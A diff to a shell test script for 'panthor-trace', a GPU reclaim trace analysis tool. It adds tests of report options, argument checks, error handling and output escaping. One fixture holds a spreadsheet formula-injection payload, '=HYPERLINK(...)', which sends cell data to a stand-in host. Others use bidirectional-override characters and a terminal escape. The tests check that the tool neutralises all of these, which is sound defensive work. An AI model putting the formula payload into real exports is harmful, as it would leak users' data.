@@ -11,6 +11,7 @@ make_trace two.dat <"$S/two-writes.txt"
 make_trace big.dat -b -l 8 <"$S/two-writes.txt"
 make_trace big32.dat -b -l 4 <"$S/two-writes.txt"
 make_trace little32.dat -l 4 <"$S/two-writes.txt"
+many_bos 20 | make_trace many.dat
 
 # The formats were printed by a kernel: they must have the fields of today's header, all of them and in its order
 header=$HERE/../../../include/trace/events/panthor_reclaim.h
@@ -90,6 +91,73 @@ expect "colour when asked for" 0 $'\033' "$PT" report --color always two.dat
 expect "HTML page is one file" 0 '!(src=|href=|https?://)' "$PT" export -F html two.dat
 expect "HTML page has the data" 0 '^.*"page tiles".*\]$' "$PT" export -F html two.dat
 
+# A column by its name or its head, in any case; each is there once
+for t in requests vms bos swapins; do
+	heads=$("$PT" export -T $t --fields=help | awk -v t="$t:" '/:$/ { on = $1 == t; next } on && NF { print tolower($1); if (tolower($2) != tolower($1)) print tolower($2) }' | sort | uniq -d)
+	[ -z "$heads" ] && pass "$t: a name says which column" || fail "$t: a name says which column" "$heads"
+done
+expect "a column by its head" 0 '^TARGET +#EVICTED +TIME$' "$PT" report --fields 'Target,#evicted,time_ns' two.dat
+expect "sorting by a head" 0 '^"game"$' sh -c "'$PT' report --sort=-blocked -F csv -f TARGET two.dat | sed -n 2p"
+expect "first of the sorted" 0 '^2$' sh -c "'$PT' report --sort=-blocked --limit 1 -F csv -f id two.dat | tail -n +2 | tr '\n' ' ' | sed 's/ $//'"
+expect "limit" 0 '^2 "evicted"$' sh -c "'$PT' export -T bos -F csv --limit 5 -f id,what two.dat | tail -n 1 | tr , ' '"
+expect "the worst, in another order" 0 '^1$' sh -c "'$PT' report --worst 2 --sort id -F csv -f id two.dat | sed -n 2p"
+expect "--by alone has no requests" 0 '!^ *100\.0' "$PT" report --by client two.dat
+expect "-P alone has no requests" 0 '!^ *100\.0' "$PT" report -P two.dat
+expect "-H alone has no requests" 0 '!^ *100\.0' "$PT" report -H two.dat
+expect "a filter on BOs reaches --by" 0 '^"client 5 \[388\]",1,1,33554432,' "$PT" report --by client -F csv --filter 'label~page' two.dat
+expect "--by label groups kinds" 0 '^"tile #",1,20,' sh -c "'$PT' report --by label -F csv many.dat"
+expect "--by label names what has none" 0 '^"\(no label\)",1,1,65536,' "$PT" report --by label -F csv two.dat
+expect "relative times" 0 '^0\.000000 +1 ' "$PT" report --times relative two.dat
+complains "no time of day" 1 'do not tell the time of day' "$PT" report --times wall two.dat
+sed 's/^\([01]\) 1\([0-9][0-9]\.\)/\1 17320001\2/' "$S/two-writes.txt" | make_trace wall.dat
+TZ=UTC expect "the time of day" 0 '^2024-11-19T07:08:20.000000 ' "$PT" report --times wall wall.dat
+expect "a table fits the terminal" 0 '^[0-9]+$' sh -c "COLUMNS=80 '$PT' report two.dat | head -n 4 | awk 'length > 80 && !/^no room/ { exit 1 } END { print NR }'"
+expect "and says what it has no room for" 0 '^no room for: .*REQUESTER' env COLUMNS=80 "$PT" report two.dat
+expect "but not to whom it does not matter" 0 '!no room' "$PT" report two.dat
+grep -v 'id=2' "$S/two-writes.txt" | sed 's/target_tgid=388/target_tgid=0/; s/target_comm=browser/target_comm=/; s/source=0/source=2/' | make_trace kswapd.dat
+expect "an empty cell is a word, too" 0 '^1$' sh -c "'$PT' report --bytes --ns kswapd.dat | awk 'NR <= 2 { n[NF] } END { print length(n) }'"
+expect "standard input" 0 '^2 requests:' sh -c "cat two.dat | '$PT' report -"
+expect "standard input, a file" 0 '^2 requests:' sh -c "'$PT' report - <two.dat"
+expect "standard input, one side of diff" 0 '^requests +2 +2 ' sh -c "'$PT' diff - two.dat <two.dat"
+complains "perf.data" 1 'a perf.data file: perf script' "$PT" report "$HERE/golden/perf.data"
+
+# What belongs to a request, by id: whoever chose it
+make_trace back.dat <"$S/two-writes.txt"
+for choice in '--pid 412' '--time 99,101.9'; do
+	# shellcheck disable=SC2086 # options
+	expect "refault $choice" 0 'swapped in 52 MiB' "$PT" refault $choice back.dat
+	# shellcheck disable=SC2086 # options
+	expect "diff $choice" 0 '^swapped_in +52 MiB +52 MiB ' "$PT" diff $choice back.dat back.dat
+	# shellcheck disable=SC2086 # options
+	expect "export -T swapins $choice" 0 '^3$' sh -c "'$PT' export -T swapins -F csv $choice back.dat | tail -n +2 | wc -l"
+done
+expect "refault of one target" 0 'swapped in 48 MiB' "$PT" refault --pid 388 back.dat
+expect "refault of one client" 0 'swapped in 4 MiB' "$PT" refault --client 6 back.dat
+expect "refault of a time without" 0 'swapped in 0 B' "$PT" refault --time 50,60 back.dat
+
+# The driver was loaded anew: ids, and those of BOs, start again
+(grep -v '^#' "$S/two-writes.txt"; grep '^[01]' "$S/two-writes.txt" | awk '{ sub($2, sprintf("%.6f", $2 + 100)); print }') | make_trace reload.dat
+expect "ids that start again" 0 '^4$' sh -c "'$PT' refault -F csv reload.dat | tail -n +2 | wc -l"
+expect "nothing is mixed up" 0 '^evicted 104 MiB, swapped in 104 MiB' "$PT" refault reload.dat
+
+# To the end of the trace, whatever is there
+make_trace gain.dat <<'END'
+0 10.000000 412 panthor_reclaim_begin dev=panthor id=1 source=0 writer_tgid=412 target_tgid=388 writer_comm=manager target_comm=browser
+0 10.001000 412 panthor_bo_evict dev=panthor id=1 bo_id=11 client_id=5 tgid=388 vm_id=1 state=2 size=1073741824 duration_ns=800000 evictions=1 label="x"
+0 10.002000 412 panthor_reclaim_end dev=panthor id=1 source=0 target_tgid=388 evicted_bos=1 evicted=1073741824 duration_ns=2000000 target_comm=browser
+noise 0 70.002000 70.002001 2
+END
+expect "gain to the end of the trace, in its unit" 0 ' 60\.0 GiB s evicted$' "$PT" refault gain.dat
+
+# In another clock, in two buffers
+(echo "clock counter"; sed 's/^\([01]\) \([0-9]*\)\.\([0-9]*\)/\1 0.000\3/' "$S/two-writes.txt" | sort -s -k2,2) | make_trace counter.dat
+make_trace buffers.dat -2 <"$S/two-writes.txt"
+complains "a clock of something else" 0 'its clock, "counter", does not count seconds' "$PT" report counter.dat
+expect "its times are numbers" 0 '^ +[0-9]+ +1 sysfs ' "$PT" report counter.dat
+expect "no gain without seconds" 0 '^""$|^$' sh -c "'$PT' refault -F csv -f gain_byte_s counter.dat | tail -n 1"
+expect "one event in two buffers counts once" 0 '^2 requests: evicted 4 BOs, 52.1 MiB' "$PT" report buffers.dat
+expect "whatever the command" 0 'swapped in 52 MiB' "$PT" refault buffers.dat
+
 # Wrong calls: one line, status 2
 complains "no command" 2 'Usage: panthor-trace COMMAND' "$PT"
 complains "unknown command" 2 '^panthor-trace: no command "rport"' "$PT" rport
@@ -105,7 +173,36 @@ complains "two files" 2 'one trace file' "$PT" report two.dat two.dat
 complains "diff of one" 2 'two trace files wanted' "$PT" diff two.dat
 complains "reclaim of a word" 2 '"game" is not a process id' "$PT" reclaim game
 
+for o in --limit=0 --limit=-1 --limit=1.5 --worst=-1 --worst=0 '--worst= 3' --pid=-5 --pid=0x --pid=99999999999 --client=-1 --client= --client=1k \
+	--time=-1, --time=1e3, --sort= --fields= --sort=id,id,id,id,id,id,id,id,id --times=utc --color=maybe; do
+	complains "report $o" 2 '^panthor-trace: ' "$PT" report "$o" two.dat
+done
+for o in --soon=0 --soon=-1 --soon=0.0000000001 --soon=1h --soon=99999999999999999999; do
+	complains "refault $o" 2 '^panthor-trace: --soon wants a time' "$PT" refault "$o" two.dat
+done
+expect "a time without a unit is in seconds" 0 'of that within 500 ms' "$PT" refault --soon 0.5 two.dat
+complains "a value that would have to be rounded" 2 'does not fit' "$PT" report --filter 'evicted>0.3' two.dat
+complains "arguments first, then the trace" 2 'no field "nme"' "$PT" report --fields nme nothing.dat
+for c in 'diff two.dat' refault report; do
+	# shellcheck disable=SC2086 # two words
+	complains "$c -F chrome" 2 'only export writes chrome' "$PT" $c -F chrome two.dat
+done
+complains "chrome of one table" 2 'needs all tables' "$PT" export -F chrome -T bos two.dat
+ln -s two.dat link.dat && ln two.dat hard.dat
+for f in two.dat link.dat hard.dat ./two.dat; do
+	for c in 'diff one.dat' refault report export; do
+		cp two.dat one.dat
+		# shellcheck disable=SC2086 # two words
+		complains "$c -o $f" 2 'would overwrite the trace' "$PT" $c -o $f two.dat
+	done
+done
+cmp -s one.dat two.dat && pass "the trace is as it was" || fail "the trace is as it was"
+
 # Honesty: a line on stderr and a status
+for c in 'report two.dat' 'report -F csv two.dat' 'report --fields=help' 'refault two.dat' 'diff two.dat two.dat' 'export two.dat' \
+	'export -F html two.dat' 'export -F chrome two.dat' 'export -F jsonl two.dat' 'report -o /dev/full two.dat' --help --version 'report --help'; do
+	complains "full device: $c" 1 'cannot write .*: No space left' sh -c "'$PT' $c >/dev/full"
+done
 complains "no file" 1 'cannot open nothing.dat: No such file' "$PT" report nothing.dat
 complains "a folder" 1 'not a regular file' "$PT" report .
 complains "not a trace" 1 'not a trace.dat file' "$PT" report "$S/two-writes.txt"
@@ -174,6 +271,48 @@ for f in two golden; do
 done
 expect "evil CSV has one record a row" 0 '^\[2, 1\]$' sh -c "'$PT' export -F csv -T bos evil.dat | python3 -c 'import csv, sys; r = list(csv.reader(sys.stdin)); print([len(r), len({len(x) for x in r})])'"
 
+# In a spreadsheet text stays text, and a program gets it back by taking one apostrophe away
+make_trace formula.dat <<'END'
+0 1.0 7 panthor_reclaim_begin dev=panthor id=1 writer_tgid=7 target_tgid=8 writer_comm="-2" target_comm="=1+1"
+0 1.1 7 panthor_bo_evict dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="=HYPERLINK('http://x.test/?'&A1)"
+0 1.2 7 panthor_bo_evict_skip dev=panthor id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="'quoted"
+0 1.3 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=1 evicted=4096 skipped_bos=1 skipped=4096 duration_ns=300000000
+END
+expect "no formula in a CSV" 0 '!(^|,)"?[-=+@]' "$PT" export -F csv -T bos -f label formula.dat
+expect "labels come back from a CSV" 0 "^\\[\"=HYPERLINK\\('http://x.test/\\?'&A1\\)\", \"'quoted\"\\]$" sh -c "'$PT' export -F csv -T bos -f label formula.dat |
+	python3 -c 'import csv, json, sys; print(json.dumps([r[0][r[0][:1] == chr(39):] for r in list(csv.reader(sys.stdin))[1:]]))'"
+
+# What the kernel has escaped is not escaped again; what does not show, or turns the text round, is
+make_trace esc.dat <<'END'
+0 1.0 7 panthor_reclaim_begin dev=panthor id=1 writer_tgid=7 target_tgid=8 writer_comm="mgr" target_comm="a\x09b"
+0 1.1 7 panthor_bo_evict dev=panthor id=1 bo_id=1 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="say \x5cx22hi\x5cx22"
+0 1.2 7 panthor_bo_evict dev=panthor id=1 bo_id=2 client_id=2 tgid=8 vm_id=1 state=2 size=4096 duration_ns=5 evictions=1 label="x\xe2\x80\xaey\xf3\xa0\x81\x81\xc2\xad"
+0 1.3 7 panthor_reclaim_end dev=panthor id=1 target_tgid=8 evicted_bos=2 evicted=8192 duration_ns=300000000
+END
+expect "table: escaped once" 0 'say \\x22hi\\x22 ' "$PT" report --bos esc.dat
+expect "table: direction and invisible characters" 0 'x\\xE2\\x80\\xAEy\\xF3\\xA0\\x81\\x81\\xC2\\xAD' "$PT" report --bos esc.dat
+expect "csv: escaped once" 0 '^"say \\x22hi\\x22"$' "$PT" export -F csv -T bos -f label esc.dat
+for f in json jsonl html chrome; do
+	expect "$f: escaped once" 0 'say \\\\x22hi\\\\x22"' "$PT" export -F $f esc.dat
+done
+cp two.dat $'odd\033\nname.dat'
+expect "file names in footers" 0 '^A: odd\\x1B\\x0Aname.dat$' "$PT" diff $'odd\033\nname.dat' two.dat
+
+# Where a write was: of the older driver, one after the other, and it says so
+awk '/bo_writeback/ { w[n++] = $0; next }
+	/panthor_reclaim_end/ { for (i = 0; i < n; i++) { sub(/^[01] [0-9.]+/, $1 " " $2, w[i]); print w[i] } n = 0 }
+	{ print }' "$S/two-writes.txt" | make_trace atend.dat
+for f in two golden atend; do
+	expect "$f: writes lie within their request, one at a time" 0 '^[1-9][0-9]* writes, bad: 0$' sh -c "'$PT' export $f.dat | python3 -c '
+import json, sys
+d = json.load(sys.stdin)
+begin = {r[\"id\"]: (r[\"time_ns\"], r[\"time_ns\"] + r[\"duration_ns\"]) for r in d[\"requests\"]}
+writes = sorted((b[\"id\"], b[\"writeback_lane\"], b[\"writeback_start_ns\"], b[\"writeback_time_ns\"]) for b in d[\"bos\"] if b[\"writeback_start_ns\"])
+bad = sum(not begin[w[0]][0] <= w[2] <= w[3] <= begin[w[0]][1] + 100000 for w in writes)
+bad += sum(a[:2] == b[:2] and a[3] > b[2] for a, b in zip(writes, writes[1:]))
+print(len(writes), \"writes, bad:\", bad)'"
+done
+
 # Interrupted, it prints what it has
 (cat "$S/two-writes.txt"; echo "noise 0 104 130 3000000") | make_trace long.dat
 "$PT" report long.dat >int.out 2>int.err & pid=$!
@@ -189,6 +328,8 @@ else
 	fail "interrupted: prints what it has, status 130" "status $rc" "$(cat int.out int.err)"
 fi
 
-# A reader that goes away is no error
+# A reader that goes away is no error, and ends it at once
+many_bos 20000 | make_trace heavy.dat
+expect "head of many rows" 0 '^0$' bash -c "'$PT' export -T bos -F csv heavy.dat | head -n 1 >/dev/null; echo \${PIPESTATUS[0]}"
 expect "head of a report" 0 '^0$' bash -c "'$PT' report two.dat | head -n 1 >/dev/null; echo \${PIPESTATUS[0]}"
 end
